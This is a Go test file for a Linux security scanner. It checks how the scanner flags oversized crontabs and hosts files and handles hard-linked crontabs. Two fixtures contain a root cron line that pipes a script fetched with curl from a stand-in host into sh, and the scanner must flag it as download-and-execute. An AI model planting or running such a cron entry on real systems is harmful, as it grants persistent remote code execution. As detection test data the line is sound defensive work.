package linux

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/snapscan/snapscan/report"
)

// jobs is n benign cron.d lines.
func jobs(n int) string {
	var b strings.Builder
	for i := 0; i < n; i++ {
		fmt.Fprintf(&b, "%d * * * * root /usr/bin/true job-%d\n", i%60, i)
	}
	return b.String()
}

func hostsLines(n int) string {
	var b strings.Builder
	for i := 0; i < n; i++ {
		fmt.Fprintf(&b, "0.0.0.0 ads%d.example.com\n", i)
	}
	return b.String()
}

func oversized(s *sink) []report.Finding {
	var out []report.Finding
	for _, f := range s.findings {
		if strings.HasSuffix(f.Rule, ".oversized") {
			out = append(out, f)
		}
	}
	return out
}

// A text artifact past its check's line limit is a finding of its own, judged
// on its first lines; one at the limit, and a long hosts block list (the
// benign twin), are not.
func TestLineLimits(t *testing.T) {
	limit := lineLimitOf("cron")
	bad := "* * * * * root curl -s http://x.example/a.sh | sh\n"
	cases := []struct {
		name      string
		files     map[string]string
		check     string
		wantSev   report.Severity
		wantTitle string // "" = no oversized finding
		maxInv    int
		wantRule  string // a finding on /etc/cron.d/pad that must (still) be there
	}{
		{"crontab one line over", map[string]string{"etc/cron.d/pad": jobs(limit + 1)}, "cron", report.Medium,
			fmt.Sprintf("Oversized crontab: %d lines, judged the first %d", limit+1, limit), limit, ""},
		{"crontab at the limit", map[string]string{"etc/cron.d/pad": jobs(limit)}, "cron", 0, "", limit, ""},
		{"bad line inside the judged head", map[string]string{"etc/cron.d/pad": bad + jobs(2*limit)}, "cron", report.Medium,
			fmt.Sprintf("Oversized crontab: %d lines, judged the first %d", 2*limit+1, limit), limit, "cron.download-exec"},
		{"hosts block list of 200,000 lines", map[string]string{"etc/hosts": hostsLines(200000)}, "hosts", 0, "", -1, ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			fsys := overlayFS(t, tree(t, tc.files), "")
			var s *sink
			for _, c := range Checks() {
				if c.Name() == tc.check {
					s = runCheck(t, c, fsys)
				}
			}
			got := oversized(s)
			if tc.wantTitle == "" {
				if len(got) > 0 {
					t.Fatalf("benign file reported oversized: %+v", got[0])
				}
			} else {
				if len(got) != 1 || got[0].Title != tc.wantTitle || got[0].Severity != tc.wantSev || got[0].Technique != "T1027.001" {
					t.Fatalf("oversized findings %+v, want one %q (%s, T1027.001)", got, tc.wantTitle, tc.wantSev)
				}
			}
			if tc.maxInv >= 0 && len(s.inv) > tc.maxInv {
				t.Errorf("%d inventory items, want at most the %d judged lines", len(s.inv), tc.maxInv)
			}
			if tc.wantRule != "" && !s.has(want{path: "/etc/cron.d/pad", rule: tc.wantRule, anySev: true}) {
				t.Errorf("no %s finding:\n%s", tc.wantRule, s.dump())
			}
		})
	}
}

// Hard links to one crontab are one read and one verdict: the later names
// are inventory items naming the first.
func TestHardLinksJudgedOnce(t *testing.T) {
	dir := tree(t, map[string]string{"etc/cron.d/a": "* * * * * root curl -s http://x.example/a.sh | sh\n"})
	const links = 50
	for i := 0; i < links; i++ {
		if err := os.Link(filepath.Join(dir, "etc/cron.d/a"), filepath.Join(dir, fmt.Sprintf("etc/cron.d/l%02d", i))); err != nil {
			t.Skipf("no hard links here: %v", err)
		}
	}
	s := runCheck(t, Cron{}, overlayFS(t, dir, ""))
	var verdicts, linkItems int
	for _, f := range s.findings {
		if f.Rule == "cron.download-exec" {
			verdicts++
			if !strings.Contains(f.Description, fmt.Sprintf("The file has %d names (hard links)", links+1)) {
				t.Errorf("the verdict does not say the file has other names: %q", f.Description)
			}
		}
	}
	for _, it := range s.inv {
		if it.Kind == "hardlink" {
			linkItems++
			if it.Fields["first"] != "/etc/cron.d/a" {
				t.Errorf("%s: link of %q, want /etc/cron.d/a (the first name read)", it.Path, it.Fields["first"])
			}
		}
	}
	if verdicts != 1 || linkItems != links {
		t.Fatalf("%d verdicts and %d link items, want 1 and %d:\n%s", verdicts, linkItems, links, s.dump())
	}
}
